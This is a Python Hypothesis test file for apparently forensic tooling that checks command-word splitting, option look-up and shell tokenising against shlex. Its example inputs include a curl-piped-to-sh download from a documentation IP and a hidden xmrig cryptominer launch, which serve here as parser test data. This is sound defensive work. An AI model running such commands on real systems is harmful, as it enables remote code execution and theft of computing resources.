"""A command's words and options: the cached split gives what `shlex.split` gives, and the
option look-up what a comparison of every word with every option name gives."""

import contextlib
import shlex

from hypothesis import example, given
from hypothesis import strategies as st

from irkit.analysis.iocs import option_values
from irkit.analysis.words import command_words, shell_tokens
from tests.hostile.fuzzing import fuzz_settings


def reference(command: str) -> tuple[str, ...]:
    """The split the analysis made before the cache: shlex, or whitespace when shlex fails."""
    try:
        return tuple(shlex.split(command))
    except ValueError:
        return tuple(command.split())


commands = st.text(
    alphabet=st.sampled_from(list("ab-/:#=|;&$ \t\r\n\x0b\x0c\u00a0\u2003'\"\\")) | st.characters(),
    max_size=40,
)


@fuzz_settings(500)
@given(commands)
@example("*/5 * * * * root /usr/local/bin/task --opt 0.5 >/dev/null 2>&1")
@example("curl -s 'http://198.51.100.7/x.sh' | sh")
@example("a\x0cb\u00a0c  d\te")
@example("echo 'unclosed")
def test_the_words_are_shlexs(command: str) -> None:
    assert command_words(command) == reference(command)
    assert command_words(command) is command_words(command)  # split once, then cached


def compared_one_by_one(argv: list[str], names: tuple[str, ...]) -> list[str]:
    """The option values as found before the look-up: every word against every name."""
    values = []
    for i, arg in enumerate(argv):
        for name in names:
            if arg == name and i + 1 < len(argv):
                values.append(argv[i + 1])
            elif name.startswith("--") and arg.startswith(name + "="):
                values.append(arg.split("=", 1)[1])
    return values


words = st.sampled_from(["-o", "--url", "--url=", "--url=a=b", "-o=x", "--", "--=", "x", "-u"])


@fuzz_settings(300)
@given(st.lists(words | st.text(max_size=6), max_size=8))
def test_option_values_are_found_as_before(argv: list[str]) -> None:
    for names in (("-o", "--url"), ("-u", "--user"), ("--port",)):
        assert option_values(argv, names) == compared_one_by_one(argv, names)


def lexed(command: str) -> list[str]:
    """The tokens as `shlex` with `punctuation_chars` reads them, up to an unclosed quote."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    tokens: list[str] = []
    with contextlib.suppress(ValueError):
        for token in lexer:
            tokens.append(token)
    return tokens


shell_lines = st.text(
    alphabet=st.sampled_from(list("ab-/.~*?=$12 \t\r\n();<>|&#\x0b\u00a0'\"\\")) | st.characters(),
    max_size=40,
)


@fuzz_settings(500)
@given(shell_lines)
@example("cd /opt/.x && nohup ./xmrig -c c.json >/dev/null 2>&1 &")
@example("sh -c 'cd /tmp; ./m' # comment")
def test_the_shell_tokens_are_shlexs(command: str) -> None:
    assert shell_tokens(command) == lexed(command)
